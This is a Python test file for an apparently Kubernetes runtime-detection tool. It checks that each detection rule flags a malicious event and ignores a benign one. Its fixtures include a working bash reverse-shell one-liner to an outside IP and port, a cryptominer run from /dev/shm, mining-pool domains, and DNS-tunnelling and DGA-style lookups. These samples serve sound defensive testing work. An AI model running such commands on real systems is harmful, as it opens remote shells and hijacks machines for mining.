"""Every built-in rule: one event (or stream) it must flag, one it must not."""

from __future__ import annotations

import ipaddress

import pytest

from edgewatch.detect import model
from edgewatch.detect.detectors import Context, EgressPolicy, workload_of
from tests.detect.helpers import (
    POD,
    T0,
    S,
    answer,
    dns,
    engine_for,
    exec_ev,
    run,
    seccomp,
    sni,
    tcp,
)


def rules(*names: str, ctx: Context | None = None):
    eng = engine_for(*names, ctx=ctx)
    return lambda events: [a.rule for a in run(eng, events)]


CASES = {
    # rule: (events that must alert, events that must not)
    "terminal_shell_in_container": (
        [exec_ev(["sh"], tty=1)],
        [exec_ev(["/bin/sh", "-c", "pg_isready -U app"])],  # an exec probe: no terminal
    ),
    "package_manager_in_container": (
        [exec_ev(["apt-get", "install", "-y", "nmap"])],
        [exec_ev(["apt-get", "update"], container_id="")],  # on the host, not a container
    ),
    "binary_from_tmp": (
        [exec_ev(["/dev/shm/.x/kswapd0", "-o", "pool:3333"]), exec_ev(["/bin/bash", "/tmp/k.sh"])],
        [exec_ev(["/usr/bin/python3", "/app/main.py", "--tmp", "/tmp/cache"])],
    ),
    "shell_from_server_process": (
        [exec_ev(["/bin/sh", "-c", "id"], pcomm="nginx")],
        [exec_ev(["/bin/sh", "-c", "pg_isready"], pcomm="containerd-shim")],
    ),
    "reverse_shell_redirect": (
        [exec_ev(["bash", "-c", "bash -i >& /dev/tcp/167.99.124.201/4444 0>&1"])],
        [exec_ev(["bash", "-c", "echo hello > /dev/null"])],
    ),
    "reverse_shell_connection": (
        [tcp("167.99.124.201", 4444, comm="bash")],
        [tcp("127.0.0.1", 5432, comm="sh"), tcp("140.82.121.6", 443, comm="curl")],
    ),
    "mining_pool_port": (
        [tcp("141.94.96.71", 3333, comm="kswapd0")],
        [tcp("10.244.2.9", 3333, comm="grafana")],  # a private service on the same port
    ),
    "mining_pool_domain": (
        [dns("pool.supportxmr.com.")],
        [dns("pool.ntp.org."), dns("api.github.com.")],
    ),
    "mining_pool_sni": (
        [sni("xmr-eu1.nanopool.org")],
        [sni("login.microsoftonline.com")],
    ),
    "dns_long_label": (
        [dns("0001." + "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpj" + "x.tunnel.example.")],
        [dns("6f1c2b7e-3d4a-4c59-9e8f-0a1b2c3d4e5f.ods.opinsights.azure.com.")],
    ),
    "seccomp_kill_or_deny": (
        [seccomp("SYS_UNSHARE", "SECCOMP_RET_KILL_PROCESS")],
        [seccomp("SYS_MEMBARRIER", "SECCOMP_RET_LOG")],
    ),
}


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_positive_and_negative(rule: str) -> None:
    positive, negative = CASES[rule]
    assert rules(rule)(positive) == [rule]
    assert rules(rule)(negative) == []


def test_every_builtin_rule_has_a_test() -> None:
    tested = set(CASES) | {
        "unexplained_public_ip",
        "egress_not_allowed",
        "apiserver_first_contact",
        "dns_subdomain_burst",
        "dns_txt_heavy",
        "dns_dga_nxdomain",
        "seccomp_new_syscall",
        "intel_connection",
        "intel_dns",
        "intel_sni",
    }
    assert {s.name for s in model.builtin()} == tested


def test_unexplained_public_ip_needs_no_dns_answer_after_warmup() -> None:
    check = rules("unexplained_public_ip")
    late = T0 + 11 * 60 * S
    events = [
        tcp("10.244.0.1", 80, t=T0),  # starts the clock
        answer("api.github.com.", ["140.82.121.6"], t=late - S),
        tcp("140.82.121.6", 443, t=late),  # explained by the answer
        tcp("51.75.64.23", 443, t=late + S),  # dialled by number
    ]
    assert check(events) == ["unexplained_public_ip"]


def test_unexplained_public_ip_is_quiet_while_warming_up() -> None:
    assert rules("unexplained_public_ip")([tcp("51.75.64.23", 443, t=T0)]) == []


def test_enrichment_name_explains_a_destination() -> None:
    class Enriched:
        def __init__(self, ev, name):  # an event carrying the enrichment's dst_name
            self.__dict__.update({f: getattr(ev, f) for f in ev.__struct_fields__})
            self.dst_name = name
            self.gadget_family = "tcp"

    from edgewatch.detect.detectors import UnexplainedPublicIp

    ctx = Context(started_ns=T0)
    det = UnexplainedPublicIp({"warmup": "0s"}, ctx)
    ev = tcp("51.75.64.23", 443, t=T0 + S)
    assert det.check(ev) is not None
    assert det.check(Enriched(ev, "c2.example.")) is None


def test_egress_allow_list_by_domain_and_cidr() -> None:
    ctx = Context(
        egress={
            "iot-gateway": EgressPolicy(
                (ipaddress.ip_network("20.0.0.0/8"),), ("*.azure-devices.net",)
            )
        }
    )
    check = rules("egress_not_allowed", ctx=ctx)
    ns = {"namespace": "iot-gateway", "pod": "mqtt-bridge-gbfkqbc49p-qvdsx"}
    allowed = [
        answer("factory-hub-01.azure-devices.net.", ["52.1.2.3"], **ns),
        tcp("52.1.2.3", 8883, **ns),  # by domain
        tcp("20.50.65.82", 443, **ns),  # by CIDR
        tcp("51.75.64.23", 443),  # another namespace has no policy
    ]
    assert check(allowed) == []
    assert check([tcp("51.75.64.23", 443, **ns)]) == ["egress_not_allowed"]


def test_egress_rule_is_inactive_without_policies() -> None:
    assert engine_for("egress_not_allowed").inactive == ["egress_not_allowed"]


def test_apiserver_first_contact_after_learning() -> None:
    check = rules("apiserver_first_contact")
    prom = {"namespace": "monitoring", "pod": "prometheus-0"}
    later = T0 + 2 * 3600 * S
    events = [
        tcp("10.0.0.1", 443, t=T0, **prom),  # learnt: prometheus talks to the API
        tcp("10.0.0.1", 443, t=later, **prom),
        tcp("10.0.0.1", 443, t=later + S),  # the web pod never did
    ]
    assert check(events) == ["apiserver_first_contact"]
    # another replica of a known workload is not new
    assert check([tcp("10.0.0.1", 443, t=later + 2 * S, pod="web-64xdnxkr7f-zzzzz")]) == []


def test_workload_of_strips_generated_suffixes() -> None:
    assert workload_of("shop", "web-64xdnxkr7f-6dn7h") == "shop/web"
    assert workload_of("payments", "settlement-29170620-xl7m8") == "payments/settlement"
    assert workload_of("monitoring", "node-exporter-4kgcn") == "monitoring/node-exporter"
    assert workload_of("monitoring", "prometheus-0") == "monitoring/prometheus"


def test_subdomain_burst_counts_distinct_names_of_one_zone() -> None:
    check = rules("dns_subdomain_burst")
    burst = [dns(f"{i:04x}.data{i}.x.tunnel.example.", t=T0 + i * S // 10) for i in range(40)]
    assert check(burst) == ["dns_subdomain_burst"]
    same = [dns("a.b.c.cdn.example.", t=T0 + i * S) for i in range(100)]  # one name, repeated
    assert rules("dns_subdomain_burst")(same) == []


def test_txt_heavy_needs_many_txt_lookups_in_the_window() -> None:
    check = rules("dns_txt_heavy")
    assert check([dns(f"s{i}.example.", qtype="TXT", t=T0 + i * S) for i in range(20)]) == [
        "dns_txt_heavy"
    ]
    spread = [dns(f"s{i}.example.", qtype="TXT", t=T0 + i * 60 * S) for i in range(20)]
    assert rules("dns_txt_heavy")(spread) == []


def test_dga_nxdomain() -> None:
    check = rules("dns_dga_nxdomain")
    dga = [
        dns(f"{w}.com.", qr="R", rcode="NXDOMAIN", t=T0 + i * S)
        for i, w in enumerate(
            ["xkqzvbtrplmn", "qwrtzpsdfghk", "zxcvbnmlkjhg", "plkmnbvcxzqw", "rtgbnhyujmkl"]
        )
    ]
    assert check(dga) == ["dns_dga_nxdomain"]
    readable = [
        dns(f"{w}.example.", qr="R", rcode="NXDOMAIN", t=T0 + i * S)
        for i, w in enumerate(
            ["legacy-cdn", "telemetry", "recommendations", "inventory", "shipping"]
        )
    ]
    assert rules("dns_dga_nxdomain")(readable) == []


def test_new_syscall_after_learning() -> None:
    check = rules("seccomp_new_syscall")
    later = T0 + 2 * 3600 * S
    events = [
        seccomp("SYS_MEMBARRIER", "SECCOMP_RET_LOG", t=T0),
        seccomp("SYS_MEMBARRIER", "SECCOMP_RET_LOG", t=later),
        seccomp("SYS_PTRACE", "SECCOMP_RET_LOG", t=later + S),
    ]
    assert check(events) == ["seccomp_new_syscall"]


def test_alerts_are_deduplicated_per_rule_and_entity() -> None:
    eng = engine_for("binary_from_tmp")
    events = [exec_ev(["/tmp/x"], t=T0 + i * S) for i in range(5)]
    events.append(exec_ev(["/tmp/x"], t=T0 + 6 * S, pod="other-pod"))
    alerts = run(eng, events)
    assert [a.pod for a in alerts] == [POD["pod"], "other-pod"]
    assert eng.dedup.suppressed["binary_from_tmp"] == 4
    # after the window the same entity alerts again
    assert len(run(eng, [exec_ev(["/tmp/x"], t=T0 + 2 * 3600 * S)])) == 1


def test_alert_carries_rule_mitre_entity_and_evidence_ids() -> None:
    from edgewatch.tables.schema import event_id

    ev = exec_ev(["/dev/shm/.x/kswapd0"])
    (alert,) = run(engine_for("binary_from_tmp"), [ev])
    assert alert.rule == "binary_from_tmp"
    assert alert.severity == "high"
    assert alert.technique == "T1204.002" and alert.tactic == "Execution"
    assert alert.entity == f"{POD['namespace']}/{POD['pod']}"
    assert alert.evidence_ids == [event_id(ev, "trace_exec")]
    assert alert.gadget == "trace_exec"


def test_threshold_alert_lists_recent_evidence() -> None:
    eng = engine_for("dns_txt_heavy")
    (alert,) = run(eng, [dns(f"s{i}.example.", qtype="TXT", t=T0 + i * S) for i in range(20)])
    assert alert.event_count == 20
    assert len(alert.evidence_ids) == 5 and len(set(alert.evidence_ids)) == 5
    assert alert.first_ns < alert.last_ns


def test_gated_scan_reports_the_right_event() -> None:
    """TCP rules all need ``type: connect``: other events are skipped before anything else."""
    from edgewatch.tables.schema import event_id

    eng = engine_for("reverse_shell_connection", "mining_pool_port")
    closes = [tcp("167.99.124.201", 4444, comm="bash", type="close", t=T0 + i) for i in range(3)]
    connect = tcp("167.99.124.201", 4444, comm="bash", t=T0 + 10)
    (alert,) = run(eng, [*closes, connect, *closes])
    assert alert.evidence_ids == [event_id(connect, "trace_tcp")]
